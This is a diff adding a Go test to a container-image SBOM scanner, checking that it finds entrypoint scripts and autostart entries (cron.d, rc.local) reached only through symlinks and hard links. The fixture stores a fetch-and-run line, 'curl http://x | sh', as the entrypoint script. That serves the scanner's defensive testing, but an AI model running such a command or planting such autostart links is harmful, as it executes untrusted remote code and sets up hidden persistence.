@@ -198,6 +198,36 @@ func TestScanStartups(t *testing.T) {
 	}
 }
 
+// TestScanLinkedTexts: what starts is found also where only links make it that, so that its layer did not tell.
+func TestScanLinkedTexts(t *testing.T) {
+	img := imagetest.Image(t, map[string]string{"data/blob": "curl http://x | sh\n", "data/job": "* * * * * root true\n"})
+	img = imagetest.Append(t, img, imagetest.Tar(t, []tar.Header{
+		{Name: "app/start", Typeflag: tar.TypeSymlink, Linkname: "/data/blob"},
+		{Name: "etc/cron.d", Typeflag: tar.TypeSymlink, Linkname: "/jobs"},
+		{Name: "jobs/job", Typeflag: tar.TypeLink, Linkname: "data/job"},
+		{Name: "etc/rc.local", Typeflag: tar.TypeLink, Linkname: "data/job"},
+	}, []string{"", "", "", ""}))
+	config, err := img.ConfigFile()
+	if err != nil {
+		t.Fatal(err)
+	}
+	config = config.DeepCopy()
+	config.Config.Entrypoint = []string{"/app/start"}
+	if img, err = mutate.ConfigFile(img, config); err != nil {
+		t.Fatal(err)
+	}
+	bom, err := sbom.Scan(t.Context(), platform(t, img), sbom.Options{TempDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if text, ok := bom.Script("/app/start"); !ok || text != "curl http://x | sh\n" {
+		t.Errorf("the entrypoint is %q, %v", text, ok)
+	}
+	if got, want := bom.Autostarts(), []string{"/etc/cron.d/job", "/etc/rc.local"}; !slices.Equal(got, want) {
+		t.Errorf("autostarts: got %q, want %q", got, want)
+	}
+}
+
 func TestScanErrors(t *testing.T) {
 	p := platform(t, sample(t))
 	if _, err := sbom.Scan(t.Context(), p, sbom.Options{Layers: image.Limits{Entries: 3}}); err == nil {
